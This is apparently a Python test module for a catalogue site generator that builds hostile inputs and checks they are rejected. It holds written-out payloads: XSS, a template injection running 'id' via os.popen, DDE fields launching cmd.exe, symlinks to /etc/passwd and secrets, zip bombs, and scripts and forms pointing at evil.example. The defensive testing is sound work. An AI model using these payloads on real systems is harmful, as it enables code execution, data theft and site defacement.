"""The corpus of hostile and broken inputs: every case, with the exact message it must give.

Two kinds of case share one shape (files to add to the base catalogue, and a
golden file holding the expected output of ``catalogue check`` or ``build``):

* the golden error files in ``fixtures/errors`` (a record, sometimes with the
  official file beside it), which ``test_errors.py`` also runs;
* cases that cannot be stored as files in git: a 50 MB record, floods of
  aliases, tabs and invalid values, symbolic links that lead out of the
  project, a named pipe. They are made here, and their goldens live in
  ``fixtures/hostile``.

``test_hostile.py`` runs them all; ``benchmarks/bench_hostile.py`` runs each in
its own process and measures its time and memory.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from . import payloads
from .conftest import BASE, FIXTURES, ROOT

ERRORS = FIXTURES / "errors"
GOLDEN = FIXTURES / "hostile"
RECORD = (BASE / "procedures" / "dang-ky-tam-tru.yaml").read_text(encoding="utf-8")

Maker = Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    """One hostile input: what to add to a copy of the base catalogue, and what must be said."""

    name: str
    make: Maker
    golden: Path
    command: str = "check"
    heavy: bool = False
    """Large enough that time and memory are worth measuring in the test suite."""
    files: tuple[str, ...] = field(default=())
    """Project paths every problem line must name."""


def project_from_base(folder: Path) -> Path:
    """A copy of the base catalogue (one procedure, one form) with the templates, in *folder*."""
    project = folder / "project"
    shutil.copytree(BASE, project)
    shutil.copytree(ROOT / "templates", project / "templates")
    return project


@dataclass(frozen=True)
class Run:
    """What ``catalogue`` did with one case, run in its own process."""

    returncode: int
    stderr: str
    seconds: float
    peak_kib: int
    """Peak resident memory of the command (VmHWM), or 0 when it was killed."""


# ``wait4``'s ru_maxrss of a child includes the memory of the parent it was
# forked from, so the command reports its own peak as it exits.
_MEASURED = """
import atexit, os, runpy, sys
def peak():
    with open("/proc/self/status") as status, open(os.environ["CATALOGUE_PEAK_FILE"], "w") as out:
        out.write(next(line for line in status if line.startswith("VmHWM:")).split()[1])
atexit.register(peak)
sys.argv[0] = "catalogue"
runpy.run_module("generator", run_name="__main__")
"""


def run_measured(case: Case, project: Path, timeout: float = 60) -> Run:
    """Run ``catalogue <case.command>`` on *project* in a child process; kill it after *timeout* seconds."""
    argv = [sys.executable, "-c", _MEASURED, case.command, "--project", str(project)]
    with tempfile.TemporaryFile() as err, tempfile.NamedTemporaryFile("r") as peak:
        env = {**os.environ, "PYTHONPATH": str(ROOT), "CATALOGUE_PEAK_FILE": peak.name}
        started = time.perf_counter()
        child = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=err, env=env)
        try:
            returncode = child.wait(timeout)
        except subprocess.TimeoutExpired:
            child.kill()
            returncode = child.wait()
        seconds = time.perf_counter() - started
        err.seek(0)
        stderr = err.read().decode("utf-8", errors="replace")
        measured = peak.read().strip()
    return Run(returncode, stderr, seconds, int(measured) if measured.isdigit() else 0)


def clean_report(case: Case, returncode: int, stderr: str, project: Path) -> list[str]:
    """Everything wrong with how *case* was reported (empty when the report is clean).

    Clean: exit status 1, no traceback, every problem names one of the case's
    files, the last line counts the problems and says nothing was written, and
    nothing was written.
    """
    wrong = []
    lines = stderr.splitlines()
    if returncode != 1:
        wrong.append(f"exit status {returncode}, not 1")
    if "Traceback" in stderr:
        wrong.append("a traceback")
    if not lines or not lines[-1].endswith("; nothing was written."):
        wrong.append("no summary line")
    for line in lines[:-1]:
        if not line.startswith(tuple(f"{name}:" for name in case.files)):
            wrong.append(f"a line that names no file of the case: {line[:120]}")
    for output in ("site", ".catalogue"):
        if (project / output).exists():
            wrong.append(f"{output}/ was written")
    return wrong


# -- golden error files --------------------------------------------------------


def _copy(sources: list[Path], into: str) -> Maker:
    def make(project: Path) -> None:
        for source in sources:
            (project / into / source.name).write_bytes(source.read_bytes())

    return make


def form_case_files(case: Path) -> list[Path]:
    """A form case's record and the official file beside it (CT15.yaml, CT15.pdf), not its golden."""
    return sorted(p for p in case.parent.glob(f"{case.stem}.*") if p.suffix != ".txt")


def error_file_cases() -> list[Case]:
    cases = []
    for folder in ("procedures", "forms"):
        for record in sorted((ERRORS / folder).glob("*.yaml")):
            sources = form_case_files(record) if folder == "forms" else [record]
            cases.append(
                Case(
                    f"{folder}/{record.stem}",
                    _copy(sources, folder),
                    record.with_suffix(".txt"),
                    files=(f"{folder}/{record.name}",),
                )
            )
    return cases


# -- made at test time ---------------------------------------------------------


def _record(name: str, text: str | bytes) -> Maker:
    def make(project: Path) -> None:
        path = project / "procedures" / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))

    return make


def _record_code(code: str) -> str:
    return RECORD.replace('code: "1.004194"', f'code: "{code}"')


def _fifty_megabytes(project: Path) -> None:
    line = "# " + "Đăng ký tạm trú " * 6 + "\n"
    chunk = (line * (1024 * 1024 // len(line.encode()))).encode()
    with (project / "procedures" / "lon-qua.yaml").open("wb") as file:
        file.write(_record_code("1.004300").encode())
        while file.tell() < 50 * 1024 * 1024:
            file.write(chunk)
        file.truncate(50 * 1024 * 1024)


def _alias_flood() -> bytes:
    """Just under 1 MB of aliases: 100 on each line, as many lines as fit."""
    head = _record_code("1.004301").replace("keywords: [tạm trú, KT3]", "keywords: &a [tạm trú, KT3]") + "x_lol:\n"
    line = "  - [" + ", ".join(["*a"] * 100) + "]\n"
    return (head + line * ((1024 * 1024 - len(head) - 1) // len(line))).encode()


def _tab_flood() -> bytes:
    return (_record_code("1.004302") + "\t# thụt lề bằng tab\n" * 40_000).encode()


def _invalid_flood() -> bytes:
    levels = ", ".join(f"cap{i}" for i in range(5_000))
    return _record_code("1.004303").replace("levels: [xa]", f"levels: [{levels}]").encode()


def _markdown_flood() -> bytes:
    """Just under 1 MB of the Markdown whose parsing cost grows fastest with its length: unclosed brackets."""
    head = _record_code("1.004305").replace(
        "steps:\n", "steps:\n" + "".join(f"  - Bước {'[' * 24_000}\n" for _ in range(40))
    )
    return head.encode()


def _outside(project: Path, name: str, content: bytes) -> Path:
    """A file beside the project folder, outside it."""
    outside = project.parent / "outside"
    outside.mkdir(exist_ok=True)
    path = outside / name
    path.write_bytes(content)
    return path


def _symlinked_record(project: Path) -> None:
    target = _outside(project, "ho-so-mat.yaml", _record_code("1.004304").encode())
    (project / "procedures" / "ho-so-mat.yaml").symlink_to(os.path.relpath(target, project / "procedures"))


def _symlinked_form_file(project: Path) -> None:
    target = _outside(project, "khoa-bi-mat.pdf", b"%PDF-1.7\n% not for publication\n")
    form = "id: CT30\ntitle: Tờ khai trỏ ra ngoài dự án\nfile: CT30.pdf\n"
    (project / "forms" / "CT30.yaml").write_text(form, encoding="utf-8")
    (project / "forms" / "CT30.pdf").symlink_to(os.path.relpath(target, project / "forms"))


def _symlinked_system_file(project: Path) -> None:
    form = "id: CT31\ntitle: Tờ khai trỏ tới tệp hệ thống\nfile: CT31.docx\n"
    (project / "forms" / "CT31.yaml").write_text(form, encoding="utf-8")
    (project / "forms" / "CT31.docx").symlink_to("/etc/passwd")


def _symlinked_page_file(project: Path) -> None:
    target = _outside(project, "id_ed25519", b"-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (project / "pages").mkdir(exist_ok=True)
    (project / "pages" / "khoa.txt").symlink_to(target)


def _git_secret(project: Path) -> Path:
    """The project's ``.git/config``, holding a CI checkout's access token."""
    config = project / ".git" / "config"
    config.parent.mkdir(exist_ok=True)
    config.write_text("[http]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hwX2JpbWF0\n")
    return config


def _symlinked_git_config(project: Path) -> None:
    """Links that stay inside the project but lead to its secrets: straight, through another link, as a folder."""
    _git_secret(project)
    pages = project / "pages"
    (pages / "anh").mkdir(parents=True)
    (pages / "cau-hinh.txt").symlink_to("../.git/config")
    (pages / "anh" / "ban-do.txt").symlink_to("../cau-hinh.txt")  # a link to a link
    (pages / "kho").symlink_to("../.git")  # a folder


def _symlinked_form_secret(project: Path) -> None:
    _git_secret(project)
    (project / "forms" / "CT32.yaml").write_text("id: CT32\ntitle: Tờ khai\nfile: CT32.pdf\n", encoding="utf-8")
    (project / "forms" / "CT32.pdf").symlink_to("../.git/config")
    (project / "procedures" / "cau-hinh.yaml").symlink_to("../.git/config")


def _symlinked_hidden_file(project: Path) -> None:
    """A link inside pages/ to a file of a hidden folder there (what a tool's cache or a checkout might hold)."""
    hidden = project / "pages" / ".cache"
    hidden.mkdir(parents=True)
    (hidden / "token.txt").write_text("ghp_bimat\n", encoding="utf-8")
    (project / "pages" / "token.txt").symlink_to(".cache/token.txt")


def _file_over_the_cap(project: Path) -> None:
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8").replace("    featured:", "    files: {max_mb: 1}\n    featured:")
    config.write_text(text, encoding="utf-8")
    image = project / "pages" / "anh" / "ban-do.png"
    image.parent.mkdir(parents=True)
    image.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * (3 * 2**20))


def _named_pipe(project: Path) -> None:
    os.mkfifo(project / "procedures" / "ong-dan.yaml")


def _hostile_settings(project: Path) -> None:
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8").replace(
        "    featured:",
        "    portal:\n"
        "      home: https://dichvucong.gov.vn.example.com/\n"
        "      lookup: https://tra-cuu-ho-so.example.com/\n"
        "      procedure_url: https://example.com/?ma={code}\n"
        "    featured:",
    )
    config.write_text(text, encoding="utf-8")


def _files(files: dict[str, str | bytes]) -> Maker:
    """Files to add to the project, by path."""

    def make(project: Path) -> None:
        for name, content in files.items():
            path = project / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))

    return make


def _page(text: str) -> dict[str, str | bytes]:
    return {"pages/gioi-thieu.md": f"# Giới thiệu\n\nTrang do {{{{ agency.name }}}} biên soạn.\n\n{text}"}


_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" '
    'onload="alert(1)"><script>alert(document.domain)</script><a xlink:href="javascript:alert(2)">'
    '<rect width="10" height="10"/></a><foreignObject><p>x</p></foreignObject></svg>'
)
# The XSLT attack: an image that names a second one as its stylesheet; the second, a stylesheet in an image's
# clothes (a literal result element), writes a <script>.
_SVG_XSLT: dict[str, str | bytes] = {
    "pages/anh/so-do.svg": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="ve.svg"?>'
    '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
    "pages/anh/ve.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xsl:version="1.0"><xsl:element name="script">alert(document.domain)</xsl:element></svg>',
    "pages/anh/bieu-do.svg": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n'
    '<style>@import url("https://evil.example/x.css");</style>\n</svg>',
}
_SVG_REFERENCES: dict[str, str | bytes] = {
    "pages/anh/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
    '<use xlink:href="so-do.svg#a"/>\n<use href="data:image/svg+xml,%3Csvg onload=alert(1)/%3E#x"/>\n'
    '<image href="https://evil.example/pixel.png"/>\n<a href="#x"><set attributeName="href" '
    'to="javascript:alert(1)"/></a>\n<rect fill="url(https://evil.example/p#g)"/>\n</svg>',
    "pages/anh/so-do.svg": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div '
    'xmlns="http://www.w3.org/1999/xhtml"><iframe src="/quan-tri/"/></div></foreignObject></svg>',
    "pages/anh/trang.svg": "<html><body><script>alert(1)</script></body></html>",
}
_NESTED = "".join(f"{'  ' * i}- mục {i + 1}\n" for i in range(10))


def _record_with(code: str, **values: str) -> str:
    record = _record_code(code)
    for key, value in values.items():
        record = "\n".join(f"{key}: {value}" if line.startswith(f"{key}:") else line for line in record.splitlines())
    return record + "\n"


# Editors write records, forms and pages/ (content); none of it may run code at build time or in a browser,
# replace an official page or a theme file, or pass for another name (docs/security.md, "Who is trusted").
CONTENT_CASES: list[tuple[str, dict[str, str | bytes]]] = [
    ("page-template-code", _page('{{ lipsum.__globals__["os"].popen("id").read() }}\n')),
    ("page-template-statement", _page("{% for i in range(10**10) %}Lặp{% endfor %}\n\n{{ agency.name\n")),
    (
        "page-script",
        _page(
            '<script src="https://evil.example/x.js"></script>\n\n<script>alert(1)</script>\n'
            '\n<script type="application/json">{"ok": 1}</script>\n'
        ),
    ),
    (
        "page-event-handlers",
        _page(
            '<svg/onload=alert(1)>\n\n<img src=x onerror="alert(2)">\n\n'
            '<p ONMOUSEOVER=alert(3)>Di chuột</p>\n\n## Mục {: onclick="alert(4)" }\n'
        ),
    ),
    (
        "page-javascript-links",
        _page(
            '[Bấm vào đây](javascript:alert(1))\n\n<a href=" jav&#x61;script:alert(2)">'
            "Bấm</a>\n\n[x]: javascript:alert(3)\n"
        ),
    ),
    (
        "page-script-types",
        _page(
            '<script type="text/jscript">alert(1)</script>\n\n'
            '<script type="application/x-javascript">alert(2)</script>\n\n'
            '<script type=" TEXT/LiveScript ">alert(3)</script>\n\n'
            '<script type="application/ld+json">{"@type": "Thing"}</script>\n'
        ),
    ),
    (
        "page-frames-and-forms",
        _page(
            '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>\n\n'
            '<p srcdoc="x">Đoạn văn</p>\n\n<object data="/anh/a.svg"></object>\n\n'
            '<form action="https://evil.example/"><input name="cccd"></form>\n\n'
            '<base href="https://evil.example/">\n\n<style>body{display:none}</style>\n\n'
            '<details open ontoggle="alert(2)"><summary>Xem</summary></details>\n\n'
            '<a href="javascript&colon;alert(3)" style="color:red">Bấm</a>\n\n'
            '## Mục {: srcdoc="<script>alert(4)</script>" }\n\n'
            "Liên hệ <hoidap@congan.gov.vn> hoặc <https://dichvucong.gov.vn/>.\n"
        ),
    ),
    ("page-meta-refresh", _page('<meta http-equiv="Refresh" content="0; url=https://evil.example/">\n')),
    (
        "page-script-file",
        {
            "pages/tien-ich.js": "alert(document.cookie)\n",
            "pages/huong-dan/trang.html": "<p>x</p>\n",
            "pages/.htaccess": "Redirect / https://evil.example/\n",
        },
    ),
    ("page-markdown-kinds", {"pages/gioi-thieu.markdown": "# Giới thiệu\n", "pages/lien-he.MD": "# Liên hệ\n"}),
    ("page-svg-script", {"pages/anh/so-do.svg": _SVG}),
    (
        "page-svg-entities",
        {
            "pages/anh/bom.svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]>'
            '<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
        },
    ),
    (
        "page-theme-asset",
        {
            "pages/assets/javascripts/display.js": "alert(1)\n",
            "pages/assets/images/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>',
        },
    ),
    (
        "page-generated-address",
        {
            "pages/thu-tuc/dang-ky-tam-tru/index.md": "# Trang giả mạo\n",
            "pages/Linh-Vuc.md": "# Lĩnh vực\n",
            "pages/index.md": "# Trang chủ giả\n",
            "pages/sitemap.xml.gz": b"\x1f\x8b",
            "pages/404.html": "<p>x</p>",
        },
    ),
    (
        "page-generated-folders",
        {
            "pages/su-kien/index.md": "# Sự kiện giả\n",
            "pages/Khong-Co-Mang.md": "# Giả\n",
            "pages/quan-tri/index.md": "# Trình soạn thảo giả\n",
        },
    ),
    ("page-same-address", {"pages/lien-he.md": "# Liên hệ\n", "pages/lien-he/index.md": "# Liên hệ\n"}),
    (
        "page-missing-links",
        _page(
            "[Thủ tục](thu-tuc/khong-co/index.md), [trang](khong-co.md), "
            "[ảnh](anh/khong-co.png), [hướng dẫn](thu-tuc/dang-ky-tam-tru/huong-dan.pdf), "
            "[có](thu-tuc/dang-ky-tam-tru/index.md), [lên](../lien-he.md), [mục](#a), [Cổng](https://dichvucong.gov.vn/)\n"
        ),
    ),
    ("code-full-width-digits", {"procedures/dang-ky-tam-tru.yaml": _record_with("１.００４１９４")}),
    ("code-arabic-indic-digits", {"procedures/dang-ky-tam-tru.yaml": _record_with("١.٠٠٤١٩٤")}),
    ("field-look-alike", {"procedures/dang-ky-lai.yaml": _record_with("1.004195", field="Đăng ký, quản lý сư trú")}),
    ("agency-look-alike", {"procedures/dang-ky-lai.yaml": _record_with("1.004195", agency="Công аn cấp xã")}),
    ("agency-case", {"procedures/dang-ky-lai.yaml": _record_with("1.004195", agency="Công An Cấp Xã")}),
    (
        "form-id-case",
        {
            "forms/ct01.yaml": "id: ct01\ntitle: Tờ khai trùng mã\nfields:\n"
            "  - {type: text, id: ho_ten, label: Họ và tên}\n"
        },
    ),
    (
        "yaml-upper-case",
        {"procedures/dang-ky-lai.YAML": _record_with("1.004195"), "forms/CT02.Yaml": "id: CT02\ntitle: Tờ khai\n"},
    ),
    ("page-svg-xslt", _SVG_XSLT),
    ("page-svg-references", _SVG_REFERENCES),
    (
        "page-file-disguised",
        {
            "pages/tai-lieu/huong-dan.pdf": "<html><script>alert(1)</script></html>",
            "pages/tai-lieu/mau.docx": b"MZ\x90\0" + b"\0" * 60,
            "pages/anh/logo.png": "<svg onload=alert(1)>",
            "pages/anh/anh.webp": payloads.pdf(),
            "pages/tai-lieu/danh-sach.csv": "Họ tên\0\n",
            "pages/tai-lieu/ghi-chu.txt": b"\xff\xfeH\0",
        },
    ),
    (
        "page-office-documents",
        {
            "pages/tai-lieu/mau.docx": payloads.docx(remote_template="https://evil.example/t.dotm"),
            "pages/tai-lieu/bang.xlsx": payloads.xlsx(external_workbook="file:///\\\\10.0.0.1\\chia-se\\a.xlsx"),
            "pages/tai-lieu/mau-cu.doc": payloads.doc(macros=True),
            "pages/tai-lieu/bang-cu.xls": payloads.xls(macros=True),
            "pages/tai-lieu/to-khai.odt": payloads.odt(macro=True),
            "pages/tai-lieu/ban-ve.odt": payloads.odt(linked="file:///C:/ban-ve.png"),
        },
    ),
    (
        "page-file-names",
        {
            "pages/tai-lieu/mau #1?.pdf": payloads.pdf(),
            "pages/tai-lieu/ảnh%20.png": b"\x89PNG\r\n\x1a\n",
            "pages/tai lieu/-mau.txt": "Tờ khai\n",
            "pages/tai-lieu/mau  cu.txt": "Tờ khai\n",
        },
    ),
    (
        "form-file-macros",
        {
            "forms/CT40.yaml": "id: CT40\ntitle: Tờ khai có macro\nfile: CT40.docx\n",
            "forms/CT40.docx": payloads.docx(macros=True),
        },
    ),
    (
        "form-file-doctype",
        {
            "forms/CT41.yaml": "id: CT41\ntitle: Tờ khai có DOCTYPE\nfile: CT41.docx\n",
            "forms/CT41.docx": payloads.docx(doctype=True),
        },
    ),
    (
        "form-file-ole-object",
        {
            "forms/CT42.yaml": "id: CT42\ntitle: Tờ khai có đối tượng OLE\nfile: CT42.docx\n",
            "forms/CT42.docx": payloads.docx(ole_object=True),
            "forms/CT43.yaml": "id: CT43\ntitle: Tờ khai cũ có đối tượng OLE\nfile: CT43.doc\n",
            "forms/CT43.doc": payloads.doc(ole_object=True),
        },
    ),
    (
        "form-file-dde",
        {
            "forms/CT44.yaml": "id: CT44\ntitle: Tờ khai có trường DDE\nfile: CT44.docx\n",
            "forms/CT44.docx": payloads.docx(field='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
            "forms/CT45.yaml": "id: CT45\ntitle: Bảng có công thức DDE\nfile: CT45.xlsx\n",
            "forms/CT45.xlsx": payloads.xlsx(formula="cmd|' /C calc'!A0"),
            "forms/CT46.yaml": "id: CT46\ntitle: Tờ khai chèn tệp\nfile: CT46.docx\n",
            "forms/CT46.docx": payloads.docx(field='INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a.docx"'),
        },
    ),
    (
        "form-file-name",
        {"forms/CT47.yaml": 'id: CT47\ntitle: Tờ khai\nfile: "mau #1?.pdf"\n', "forms/mau #1?.pdf": payloads.pdf()},
    ),
    (
        "form-file-case",
        {
            "forms/CT50.yaml": "id: CT50\ntitle: Tờ khai\nfile: CT50-MAU-IN.pdf\nfields:\n"
            "  - {type: text, id: ho_ten, label: Họ và tên}\n",
            "forms/CT50-MAU-IN.pdf": payloads.pdf(),
        },
    ),
    (
        "form-file-damaged",
        {
            "forms/CT48.yaml": "id: CT48\ntitle: Tờ khai\nfile: CT48.pdf\n",
            "forms/CT48.pdf": b"%PDF-1.7\n% only a header\n",
        },
    ),
    (
        "form-id-reserved",
        {
            "forms/index.html.yaml": "id: index.html\ntitle: Tờ khai\nfields:\n"
            "  - {type: text, id: ho_ten, label: Họ và tên}\n",
            "forms/index.yaml": "id: index\ntitle: Tờ khai\nfields:\n  - {type: text, id: ho_ten, label: Họ và tên}\n",
        },
    ),
    (
        "text-invalid-in-xml",
        {
            "procedures/dang-ky-tam-tru.yaml": _record_with(
                "1.004194", title='"Đăng ký tạm trú\\uFFFE"', field='"Đăng ký, quản lý cư trú\\uFFFF"'
            )
        },
    ),
    (
        "text-too-long",
        {
            "procedures/dang-ky-tam-tru.yaml": _record_with(
                "1.004194", title="Đăng ký tạm trú " * 130, summary="Dành cho người đến sinh sống " * 400
            )
        },
    ),
    (
        "markdown-too-long-together",
        {
            "procedures/dang-ky-tam-tru.yaml": _record_code("1.004194").replace(
                "steps:\n", "steps:\n" + "".join(f"  - {'Chuẩn bị hồ sơ. ' * 560}\n" for _ in range(6)), 1
            )
        },
    ),
    (
        "markdown-too-deep",
        {
            "procedures/dang-ky-tam-tru.yaml": _record_code("1.004194").replace(
                "steps:\n", "steps:\n  - |\n" + "".join(f"    {line}\n" for line in _NESTED.splitlines()), 1
            )
        },
    ),
]


def made_cases() -> list[Case]:
    def case(name: str, make: Maker, files: tuple[str, ...], **options: object) -> Case:
        return Case(name, make, GOLDEN / f"{name}.txt", files=files, **options)  # type: ignore[arg-type]

    return [
        case("fifty-megabytes", _fifty_megabytes, ("procedures/lon-qua.yaml",), heavy=True),
        case("alias-flood", _record("lu-bi-danh.yaml", _alias_flood()), ("procedures/lu-bi-danh.yaml",), heavy=True),
        case("tab-flood", _record("lu-tab.yaml", _tab_flood()), ("procedures/lu-tab.yaml",)),
        case("invalid-flood", _record("lu-loi.yaml", _invalid_flood()), ("procedures/lu-loi.yaml",), heavy=True),
        case("symlinked-record", _symlinked_record, ("procedures/ho-so-mat.yaml",)),
        case("symlinked-form-file", _symlinked_form_file, ("forms/CT30.yaml",)),
        case("symlinked-system-file", _symlinked_system_file, ("forms/CT31.yaml",)),
        case("symlinked-page-file", _symlinked_page_file, ("pages/khoa.txt",), command="build"),
        case(
            "symlinked-git-config", _symlinked_git_config, ("pages/cau-hinh.txt", "pages/anh/ban-do.txt", "pages/kho")
        ),
        case("symlinked-form-secret", _symlinked_form_secret, ("forms/CT32.yaml", "procedures/cau-hinh.yaml")),
        case("symlinked-hidden-file", _symlinked_hidden_file, ("pages/token.txt", "pages/.cache/token.txt")),
        case("file-over-the-cap", _file_over_the_cap, ("pages/anh/ban-do.png",)),
        case(
            "zip-bomb",
            _files(
                {
                    "forms/CT49.yaml": "id: CT49\ntitle: Tờ khai\nfile: CT49.docx\n",
                    "forms/CT49.docx": payloads.zip_bomb(),
                }
            ),
            ("forms/CT49.yaml",),
            heavy=True,
        ),
        case("named-pipe", _named_pipe, ("procedures/ong-dan.yaml",), heavy=True),
        case(
            "markdown-flood",
            _record("lu-markdown.yaml", _markdown_flood()),
            ("procedures/lu-markdown.yaml",),
            heavy=True,
        ),
        case("hostile-settings", _hostile_settings, ("mkdocs.yml",)),
        *(case(name, _files(files), _named(files)) for name, files in CONTENT_CASES),
    ]


def _named(files: dict[str, str | bytes]) -> tuple[str, ...]:
    """The files a content case's problems may name: its own, and the base record a clash is reported in."""
    return (*files, "procedures/dang-ky-tam-tru.yaml", "forms/CT01.yaml", "mkdocs.yml")


def all_cases() -> list[Case]:
    return [*error_file_cases(), *made_cases()]


# -- markup in every text field: accepted, and shown exactly as written ---------------

# Markup in a text field is what the editor typed: "<" in "tải trọng < 5 tấn" is
# text, so text fields accept it, and every page shows it as text. Only links
# can lead somewhere, and their targets must be https:// (refused otherwise:
# see fixtures/errors/procedures/script-links.yaml).
PAYLOAD = (
    '<script>window.xss=1</script> <img src=x onerror="window.xss=2"> "><svg onload=window.xss=3> '
    '\'><iframe src=javascript:window.xss=4></iframe> <a href="javascript:window.xss=5">a</a> {{ config.site_name }}'
)
# Plain text fields also get Markdown links and entities, which they must show as typed.
PLAIN_PAYLOAD = PAYLOAD + " [bấm](javascript:window.xss=6) <javascript:window.xss=7> &lt;b&gt; &amp; \\"
MARKDOWN_FIELDS = {2, 8, 9, 11, 12, 14, 17, 18}
# Every text field of a procedure and a form; {n} becomes " №n <payload>", or nothing in the benign twin.
PROCEDURE = """\
code: "1.004194"
title: "Đăng ký tạm trú{1}"
summary: "Dành cho người đến sinh sống{2}. [Xem](https://dichvucong.gov.vn/\\"onmouseover=\\"window.xss=8)"
field: "Đăng ký, quản lý cư trú{3}"
agency: "Công an cấp xã{4}"
authority: "Công an tỉnh{5}"
levels: [xa]
applicants: ["Công dân Việt Nam{6}"]
online: partial
decision: "1523/QĐ-BCA{7}"
steps: ["Chuẩn bị hồ sơ{8}", "Nộp hồ sơ{9}"]
channels:
  - method: online
    time: {value: 3, unit: working_days}
    fees: [{name: "Lệ phí{10}", amount: 7000, note: "Miễn cho trẻ em{11}"}]
    note: "Nộp trên Cổng Dịch vụ công{12}"
  - method: in_person
    time: {text: "Trong ngày{13}"}
    fees_text: "Theo biểu phí{14}"
documents:
  - case: "Trường hợp chung{15}"
    items:
      - {name: "Tờ khai{16}", form: CT01, originals: 1, note: "Bản khai đầy đủ{17}"}
requirements: ["Có chỗ ở hợp pháp{18}"]
results: ["Cập nhật thông tin về cư trú{19}"]
legal_basis:
  - {number: "68/2020/QH14{20}", title: "Luật Cư trú{21}", date: 2020-11-13, url: "https://vbpl.vn/a?b=1&c=\\"2"}
keywords: ["tạm trú{22}"]
updated: 2026-11-20
"""
FORM = """\
id: CT01
title: "Tờ khai thay đổi thông tin cư trú{23}"
source: "Thông tư 66/2023/TT-BCA{24}"
fields:
  - {type: section, label: "Thông tin người khai{25}"}
  - {type: text, id: ho_ten, label: "Họ, chữ đệm và tên{26}", help: "Viết in hoa{27}"}
  - {type: choice, id: gioi_tinh, label: "Giới tính{28}", options: ["Nam{29}", "Nữ"]}
"""
FIELDS = 29


def _fill(template: str, hostile: bool) -> str:
    for n in range(FIELDS, 0, -1):
        typed = f" {payload(n)}".replace("\\", "\\\\").replace('"', '\\"') if hostile else ""
        template = template.replace(f"{{{n}}}", typed)
    return template


def payload(n: int) -> str:
    return f"№{n} {PAYLOAD if n in MARKDOWN_FIELDS else PLAIN_PAYLOAD}"


def markup_twins(folder: Path) -> tuple[Path, Path]:
    """The base catalogue twice in *folder*: every text field plain, then every text field carrying markup."""
    projects = []
    for name, hostile in (("benign", False), ("hostile", True)):
        project = project_from_base(folder / name)
        (project / "procedures" / "dang-ky-tam-tru.yaml").write_text(_fill(PROCEDURE, hostile), encoding="utf-8")
        (project / "forms" / "CT01.yaml").write_text(_fill(FORM, hostile), encoding="utf-8")
        projects.append(project)
    return projects[0], projects[1]
